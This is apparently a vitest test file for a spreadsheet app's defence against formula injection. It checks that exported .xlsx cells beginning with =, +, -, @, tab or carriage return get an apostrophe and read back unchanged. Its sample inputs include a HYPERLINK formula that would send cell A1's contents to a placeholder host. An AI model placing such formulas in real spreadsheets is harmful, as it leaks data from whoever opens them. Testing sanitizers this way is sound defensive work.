/**
 * Formula injection: every .xlsx the product writes escapes a text cell that begins with = + - @ (or a
 * tab or carriage return) with a leading apostrophe (preload/contract/spreadsheet-cells.ts), and
 * reading one of its own sheets back takes the apostrophe off again. Checked on the helper and on the
 * roster's export (the product's .xlsx writers: the roster, the audit log, the import templates).
 */
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { readRosterXlsx, sheetLayout, writeRosterXlsx, type SheetDay } from '../../main/core/roster/roster-xlsx';
import { templateFile } from '../../main/core/town/import/templates';
import { escapeCellText, safeCellValue, unescapeCellText } from '../../preload/contract/spreadsheet-cells';
import type { ShiftTemplate } from '../../preload/contract/roster-schemas';
import { IMPORT_KINDS } from '../../preload/contract/town-import-schemas';

const HOSTILE = ['=HYPERLINK("http://example.invalid/?x="&A1,"点这里")', '+86 138 0000 0000', '-2+3', '@SUM(1,2)', '\t=1+1', '\r=1+1', "'=already quoted"];

describe('escapeCellText', () => {
  it('puts an apostrophe before = + - @ tab CR, and only there', () => {
    expect(HOSTILE.map(escapeCellText)).toEqual([
      `'=HYPERLINK("http://example.invalid/?x="&A1,"点这里")`,
      "'+86 138 0000 0000",
      "'-2+3",
      "'@SUM(1,2)",
      "'\t=1+1",
      "'\r=1+1",
      "''=already quoted",
    ]);
    for (const plain of ['张伟', '0571-88880000', '13800000000', 'a=b', ' =1', '', '（一）']) expect(escapeCellText(plain)).toBe(plain);
  });

  it('round-trips: what was escaped reads back as it was', () => {
    for (const text of [...HOSTILE, '张伟', "'plain apostrophe", '']) expect(unescapeCellText(escapeCellText(text))).toBe(text);
  });

  it('leaves values that are not text as they are', () => {
    const date = new Date('2026-01-05T00:00:00Z');
    expect(safeCellValue(-5)).toBe(-5);
    expect(safeCellValue(date)).toBe(date);
    expect(safeCellValue(true)).toBe(true);
    expect(safeCellValue(null)).toBeNull();
    expect(safeCellValue('=1')).toBe("'=1");
  });
});

describe('the exports', () => {
  const templates: ShiftTemplate[] = [
    {
      code: 'day',
      name: '=白班',
      start: '08:30',
      hours: 24,
      roles: [{ kind: 'leader', boardCode: null, label: '带班领导', count: 1 }],
    } as unknown as ShiftTemplate,
  ];

  it('the roster sheet escapes names, remarks and headings, and imports them back unchanged', async () => {
    const layout = sheetLayout('2026-01', '+指挥中心', templates);
    const days: SheetDay[] = [{ date: '2026-01-01', weekday: 4, remark: '@元旦', names: new Map([[`day|${layout.roles[0]!.roleKey}`, ['=张三']]]) }];
    const bytes = await writeRosterXlsx(layout, days);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(bytes as unknown as ArrayBuffer);
    const ws = wb.worksheets[0]!;
    const texts: string[] = [];
    ws.eachRow((row) => row.eachCell((cell) => void (typeof cell.value === 'string' && texts.push(cell.value))));
    for (const t of texts) expect(t, t).not.toMatch(/^[=+\-@\t\r]/);
    expect(texts).toEqual(expect.arrayContaining(["'+指挥中心2026年1月值班表", "'=张三", "'@元旦"]));
    // Read back: the names are the people's names again (the import looks them up without the apostrophe).
    const looked: string[] = [];
    const read = await readRosterXlsx(bytes, layout, (name) => (looked.push(name), ['p1']));
    expect(looked).toEqual(['=张三']);
    expect(read.days.get('2026-01-01')?.cells[0]?.people).toEqual(['p1']);
  });

  it('the import templates hold no text a spreadsheet would run', async () => {
    for (const kind of IMPORT_KINDS) {
      if (kind === 'shapes') continue;
      const file = await templateFile(kind);
      const wb = new ExcelJS.Workbook();
      await wb.xlsx.load(file.bytes as unknown as ArrayBuffer);
      wb.eachSheet((ws) => ws.eachRow((row) => row.eachCell((cell) => expect(String(cell.value), `${kind} ${cell.address}`).not.toMatch(/^[=+\-@\t\r]/))));
    }
  });
});
